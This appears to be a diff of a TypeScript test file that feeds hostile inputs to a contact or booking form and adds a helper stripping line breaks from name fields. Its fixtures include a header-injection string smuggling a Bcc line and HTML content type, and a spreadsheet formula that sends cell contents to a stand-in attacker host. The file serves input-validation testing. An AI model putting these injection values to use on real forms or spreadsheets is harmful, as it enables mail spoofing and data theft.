@@ -31,9 +31,12 @@ const HEADER = 'Kai\r\nBcc: victim@example.com\r\nContent-Type: text/html\r\n\r\
 const FACT = 'Poipu\nReference: FAKE-1\nTotal: $0.00';
 const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")';
 
+/** A name with line breaks is refused (body-limits.test.ts); the other fields keep theirs. */
+const named = (text: string) => text.replaceAll(/[\r\n]+/g, ' ').slice(0, 100);
+
 const person = (text: string) => ({
-  firstName: text.slice(0, 100),
-  lastName: text.slice(0, 100),
+  firstName: named(text),
+  lastName: named(text),
   phone: text.slice(0, 50),
   email: 'kai@example.com',
   location: text.slice(0, 300),
